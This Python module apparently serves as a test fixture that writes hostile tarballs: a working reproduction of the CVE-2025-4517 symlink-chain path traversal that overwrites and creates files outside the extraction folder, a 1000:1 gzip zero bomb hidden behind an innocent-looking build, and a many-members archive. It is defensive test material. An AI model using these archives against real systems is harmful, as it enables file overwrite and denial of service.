"""Hostile tarballs, written with tarfile the way an attacker would (no wiki_qa code involved)."""
from __future__ import annotations

import io
import os
import tarfile
import zlib
from pathlib import Path


def add(tar: tarfile.TarFile, name: str, *, dir=False, symlink_to=None, hardlink_to=None, content=None,
        kind=None) -> None:
    info = tarfile.TarInfo(name)
    data = None
    if dir:
        info.type, info.mode = tarfile.DIRTYPE, 0o777
    elif symlink_to is not None:
        info.type, info.linkname = tarfile.SYMTYPE, symlink_to
    elif hardlink_to is not None:
        info.type, info.linkname = tarfile.LNKTYPE, hardlink_to
    elif kind is not None:
        info.type = kind
    else:
        data = content if isinstance(content, bytes) else content.encode()
        info.size = len(data)
    tar.addfile(info, io.BytesIO(data) if data is not None else None)


def add_build(tar: tarfile.TarFile, build_dir: Path, arcname: str) -> None:
    """A real build folder, so the archive looks like a genuine dataset tarball."""
    for p in sorted(build_dir.rglob("*")):
        tar.add(p, arcname=f"{arcname}/{p.relative_to(build_dir).as_posix()}", recursive=False)


def cve_2025_4517(path: Path, dest: str, *, up: int = 1, build: Path | None = None) -> Path:
    """The symlink chain of CVE-2025-4517 (CPython's own regression test, gh-135034): 16 folders with
    names long enough that the fully expanded path overflows PATH_MAX, so `realpath` stops expanding and
    `filter="data"` on Python < 3.11.13 lets `escape/` point `up` levels above `dest`. It then overwrites
    `escape/flag` through a hard link and creates `escape/newfile`."""
    steps = "abcdefghijklmnop"
    max_path = os.pathconf("/", "PC_PATH_MAX")
    comp = "d" * ((max_path - len(dest) - 1) // (len(steps) + 1))  # 247 for a short destination
    with tarfile.open(path, "w:gz") as tar:
        if build is not None:
            add_build(tar, build, "innocent")
        p = ""
        for s in steps:
            add(tar, os.path.join(p, comp), dir=True)
            add(tar, os.path.join(p, s), symlink_to=comp)
            p = os.path.join(p, comp)
        linkpath = os.path.join(*steps, "l" * 254)
        add(tar, linkpath, symlink_to=os.path.join(*[".."] * len(steps)))
        add(tar, "escape", symlink_to=os.path.join(linkpath, *[".."] * up))
        add(tar, "flaglink", hardlink_to=os.path.join("escape", "flag"))
        add(tar, "flaglink", content="overwritten by the tarball")
        add(tar, "escape/newfile", content="created by the tarball")
    return path


def zero_bomb(path: Path, name: str, size: int, *, build: Path | None = None) -> Path:
    """One member of `size` zero bytes: gzip packs it about 1000:1 (3 GB in about 3 MB)."""
    header = tarfile.TarInfo(name)
    header.size = size
    raw = header.tobuf(format=tarfile.GNU_FORMAT)
    comp = zlib.compressobj(6, zlib.DEFLATED, 31)  # wbits 31: a gzip stream
    with open(path, "wb") as f:
        if build is not None:  # a genuine build first, then the bomb
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w") as tar:
                add_build(tar, build, "innocent")
            f.write(comp.compress(_members_only(buf)))
        f.write(comp.compress(raw))
        block = bytes(1 << 20)
        left = size
        while left > 0:
            f.write(comp.compress(block[:min(left, len(block))]))
            left -= len(block)
        f.write(comp.compress(bytes((512 - size % 512) % 512) + bytes(1024)))
        f.write(comp.flush())
    return path


def _members_only(buf: io.BytesIO) -> bytes:
    """An uncompressed tar without its end-of-archive blocks, so more members can follow."""
    data = buf.getvalue()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        end = max(m.offset_data + ((m.size + 511) // 512) * 512 for m in tar.getmembers())
    return data[:end]


def many_members(path: Path, n: int) -> Path:
    """`n` empty files (headers only), written without tarfile's per-member overhead."""
    import gzip

    headers = []
    for i in range(n):
        info = tarfile.TarInfo(f"x/{i}")
        headers.append(info.tobuf(format=tarfile.GNU_FORMAT))
    path.write_bytes(gzip.compress(b"".join(headers) + bytes(1024), compresslevel=1))
    return path
